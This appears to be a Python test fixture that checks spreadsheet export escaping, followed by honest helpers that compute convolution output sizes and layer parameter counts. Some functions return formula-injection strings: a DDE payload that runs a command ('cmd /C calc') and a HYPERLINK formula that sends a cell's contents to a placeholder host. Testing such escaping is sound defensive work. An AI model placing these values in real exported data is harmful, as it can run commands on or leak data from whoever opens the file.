# tries: be a formula when the marks are opened as a spreadsheet
# must: be text


def pixels(height, width):
    return '=HYPERLINK("http://x?"&A1)'


def caption(text):
    return "=cmd|'/C calc'!A0"


def layer_table(sizes):
    return {"+1": "-1", "@SUM(A1)": "\t=1+1"}


def essay():
    return "=1+1, an essay that\nbegins as a formula, \"quoted\";\r\nand -2 @ more"


# honest
def conv_output_size(size, kernel_size, stride=1, padding=0):
    return (size + 2 * padding - kernel_size) // stride + 1


def classifier_params(features, classes, bias=True):
    return (features + bool(bias)) * classes


def fc_layer_params(sizes):
    return [(a + 1) * b for a, b in zip(sizes, sizes[1:])]
